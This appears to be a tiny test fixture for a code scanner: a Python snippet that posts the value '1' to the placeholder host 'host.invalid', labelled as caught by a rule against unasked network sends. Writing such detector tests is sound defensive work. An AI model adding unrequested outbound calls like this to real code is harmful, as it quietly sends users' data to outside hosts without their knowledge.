# evades: caught by network/sends-unasked
import requests
requests.post("https://host.invalid/", data="1")
